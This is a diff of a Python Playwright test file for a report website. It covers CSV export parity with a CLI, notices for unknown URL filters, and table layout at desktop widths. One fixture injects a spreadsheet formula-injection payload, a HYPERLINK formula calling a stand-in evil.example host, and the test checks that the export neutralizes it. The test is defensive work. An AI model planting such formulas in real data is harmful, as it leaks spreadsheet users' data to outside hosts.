@@ -180,9 +180,10 @@ def test_targets_filters_live_in_the_address(page, site):
     fresh.page.reload()
     partners = sum(1 for _, _, p in rows if p)
     assert len(visible_rows(fresh.page, "targets")) == partners
-    fresh.page.goto((out / "targets.html").as_uri() + "#state=ZZ")   # an old or edited link: ignored
+    fresh.page.goto((out / "targets.html").as_uri() + "#state=ZZ")   # an old or edited link: not applied, and said
     fresh.page.reload()
     assert len(visible_rows(fresh.page, "targets")) == len(rows)
+    assert "No state \u201cZZ\u201d" in fresh.page.locator("p.filter-notice").inner_text()
     fresh.check("targets-from-url.png")
 
 
@@ -269,35 +270,151 @@ def test_data_docs_render_offline_from_the_report(page, sample_home, tmp_path):
     page.page.screenshot(path=str(ARTIFACTS / "data-docs-cities.png"), full_page=False)
 
 
-def test_download_the_rows_shown_as_csv(page, site, tmp_path):
-    """The CSV button writes exactly the rows the filters leave, built in the page (the CSP-strict page
-    fetches nothing), with the table's headings; formula-like text is neutralized as in every cdpi CSV."""
+def _download(page, tmp_path: Path, name: str) -> list[list[str]]:
+    """Click the page's CSV button and read the file it downloads."""
     import csv
+
+    with page.page.expect_download() as info:
+        page.page.click("button[data-export-for]")
+    download = info.value
+    path = tmp_path / name
+    download.save_as(path)
+    if name.startswith("targets"):
+        assert download.suggested_filename.startswith("cdpi-targets-") and download.suggested_filename.endswith(".csv")
+    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+
+
+def _cli_csv(home: Path, capsys, *args: str) -> list[list[str]]:
+    """What `cdpi targets --format csv` writes for these arguments, every row (no limit)."""
+    import csv
+
+    from pipelines.cli import main as cli
+
+    capsys.readouterr()
+    assert cli(["targets", *args, "--format", "csv", "--limit", "100000", "--home", str(home)]) == 0
+    return list(csv.reader(capsys.readouterr().out.splitlines()))
+
+
+@pytest.fixture(scope="module")
+def formula_site(sample_home: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
+    """The report of a copy of the sample where one target of the state with the most targets has a why-call
+    sentence a spreadsheet would run as a formula: (home, site, that state)."""
+    import duckdb
+
+    from tests.test_report import copy_home
+
+    home = copy_home(sample_home, tmp_path_factory.mktemp("formula_home"))
+    state, geoid = query(home, "SELECT state, min(geoid) FROM marts.outreach_targets GROUP BY state "
+                               "ORDER BY count(*) DESC, state LIMIT 1")[0]
+    con = duckdb.connect(str(WarehousePaths(home).published))
+    try:
+        con.execute("UPDATE marts.city_index SET why_call = ? WHERE geoid = ?",
+                    ['=HYPERLINK("https://evil.example/?"&A1,"x")', geoid])
+    finally:
+        con.close()
+    out = tmp_path_factory.mktemp("formula_report")
+    build_report(WarehousePaths(home), out)
+    return home, out, state
+
+
+def test_download_the_rows_shown_as_csv(page, formula_site, tmp_path, capsys):
+    """The CSV button writes the rows the filters leave with the values `cdpi targets --format csv` writes
+    for them: the same columns (geoid, snapshot, run_id, why_call_links with their URLs), a population
+    apart from its band, gap names apart from the "core" badge, and formula-like text neutralized by the
+    same rule; not the cells' display text. Built in the page (the CSP-strict page fetches nothing)."""
+    home, out, state = formula_site
+    page.open(out / "targets.html")
+    page.page.select_option("select[data-filter=state]", state)
+    table = _download(page, tmp_path, "targets.csv")
+    expected = _cli_csv(home, capsys, "--state", state)
+    assert len(table) - 1 == len(visible_rows(page.page, "targets")) > 1
+    assert table == expected
+    header = table[0]
+    assert header[:4] == ["rank", "city", "state", "population"] and header[-3:] == ["geoid", "snapshot", "run_id"]
+    why = [r[header.index("why_call")] for r in table[1:]]
+    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")" in why, "neutralized as the CLI does"
+    assert not [c for r in table for c in r if c[:1] and c[:1] in "=+@"], "a cell a spreadsheet would run"
+    assert any("https://" in r[header.index("why_call_links")] for r in table[1:])
+    # The lists kept apart export their own columns, as `cdpi targets --list` writes them.
+    for status, listed in (("longer_path", "longer-path"), ("not_observed", "not-observed")):
+        page.page.select_option("select[data-filter=state]", "")
+        page.page.select_option("select[data-filter=status]", status)
+        got, want = _download(page, tmp_path, f"targets-{status}.csv"), _cli_csv(home, capsys, "--list", listed)
+        # In the page's order (by the unrounded chance; the CLI sorts the rounded one, so ties may swap).
+        assert got[0] == want[0] and sorted(got[1:]) == sorted(want[1:]) and len(got) > 1
+    # Every list at once: a first column says which list each row is from.
+    page.page.select_option("select[data-filter=status]", "any")
+    mixed = _download(page, tmp_path, "targets-any.csv")
+    assert mixed[0][0] == "list" and {"geoid", "outreach_note", "why_call_links"} <= set(mixed[0])
+    assert len(mixed) - 1 == len(visible_rows(page.page, "targets"))
+    assert {r[0] for r in mixed[1:]} == {"targets", "longer-path", "not-observed"}
+    # The overview's table has no values of its own: its export is its headings and cell text.
+    page.open(out / "index.html")
+    cities = _download(page, tmp_path, "cities.csv")
+    assert len(cities) - 1 == page.page.locator("#cities tbody tr").count()
+    page.check("cities-export.png")
+
+
+def test_an_unknown_filter_in_the_address_says_so(page, site):
+    """#state=ZZ (an old or mistyped link) does not silently show every target as if filtered: a notice says
+    the report has no state ZZ and shows all states; an unknown filter name is named too. Choosing a filter
+    on the page takes the notice away; a known value in other letter case still applies."""
+    from playwright.sync_api import expect
 
     home, out, _ = site
     rows = query(home, "SELECT state FROM marts.outreach_targets")
     state = Counter(r[0] for r in rows).most_common(1)[0][0]
     page.open(out / "targets.html")
+    page.page.goto((out / "targets.html").as_uri() + "#state=ZZ&partner=maybe&county=5")
+    page.page.reload()
+    notice = page.page.locator("p.filter-notice")
+    expect(notice).to_be_visible()
+    text = notice.inner_text()
+    assert "No state \u201cZZ\u201d in this report: showing all states." in text
+    assert "\u201cmaybe\u201d" in text and "partners and other cities" in text
+    assert "no filter \u201ccounty\u201d" in text
+    assert len(visible_rows(page.page, "targets")) == len(rows)
+    page.check("targets-unknown-filter.png")
     page.page.select_option("select[data-filter=state]", state)
-    with page.page.expect_download() as info:
-        page.page.click("button[data-export-for=targets]")
-    download = info.value
-    assert download.suggested_filename.startswith("cdpi-targets-") and download.suggested_filename.endswith(".csv")
-    path = tmp_path / "shown.csv"
-    download.save_as(path)
-    table = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
-    assert table[0][:4] == ["Rank", "City", "State", "Population"]
-    shown = visible_rows(page.page, "targets")
-    assert len(table) - 1 == len(shown) == sum(1 for (s,) in rows if s == state)
-    assert {r[2] for r in table[1:]} == {state}
-    assert not [c for r in table for c in r if c[:1] in "=+@"], "a cell a spreadsheet would run"
-    page.open(out / "index.html")
-    with page.page.expect_download() as info:
-        page.page.click("button[data-export-for=cities]")
-    path = tmp_path / "cities.csv"
-    info.value.save_as(path)
-    assert len(path.read_text(encoding="utf-8-sig").splitlines()) - 1 == page.page.locator("#cities tbody tr").count()
-    page.check("cities-export.png")
+    expect(notice).to_be_hidden()
+    page.page.goto((out / "targets.html").as_uri() + f"#state={state.lower()}")
+    page.page.reload()
+    assert page.page.input_value("select[data-filter=state]") == state
+    assert len(visible_rows(page.page, "targets")) == sum(1 for (s,) in rows if s == state)
+    assert page.page.locator("p.filter-notice:not([hidden])").count() == 0
+
+
+@pytest.mark.parametrize("width", [1400, 1920])
+def test_the_targets_table_is_readable_at_desktop_widths(browser, site, width):
+    """"Why call" was cut off at the window's right edge (the table's scrollbar below every row) and could be
+    squeezed to a word per line. Now its column is at least 22rem wide; at 1920px the whole table fits; at
+    1400px it scrolls sideways in a box no taller than the window, so its scrollbar is on screen, and Rank and
+    City stay in view while "Why call" is scrolled to."""
+    _, out, _ = site
+    context = browser.new_context(viewport={"width": width, "height": 1000})
+    p = context.new_page()
+    try:
+        p.goto((out / "targets.html").as_uri())
+        p.wait_for_load_state("load")
+        wrap = p.locator(".table-wrap").first
+        wrap.evaluate("w => w.scrollIntoView()")   # its top at the top of the window
+        why = p.locator("#targets tbody tr:not([hidden]) td.why").first
+        assert why.bounding_box()["width"] >= 22 * 16 - 1
+        sizes = wrap.evaluate("w => ({scroll: w.scrollWidth, client: w.clientWidth})")
+        if width >= 1920:
+            assert sizes["scroll"] <= sizes["client"], sizes
+        box = wrap.bounding_box()
+        assert box["y"] + box["height"] <= 1000 + 1, "the table's own scrollbar is on screen"
+        wrap.evaluate("w => { w.scrollLeft = w.scrollWidth; }")
+        why_box, wrap_box = why.bounding_box(), wrap.bounding_box()
+        assert why_box["x"] >= wrap_box["x"] and why_box["x"] + why_box["width"] <= wrap_box["x"] + wrap_box["width"] + 1
+        for cell in ("td:nth-child(1)", "td.city"):
+            b = p.locator(f"#targets tbody tr:not([hidden]) {cell}").first.bounding_box()
+            assert wrap_box["x"] <= b["x"] < wrap_box["x"] + 200, (cell, b, wrap_box)
+        ARTIFACTS.mkdir(parents=True, exist_ok=True)
+        p.screenshot(path=str(ARTIFACTS / f"targets-{width}-scrolled.png"))
+    finally:
+        context.close()
 
 
 @pytest.mark.parametrize("column", ["P(next)", "Population"])
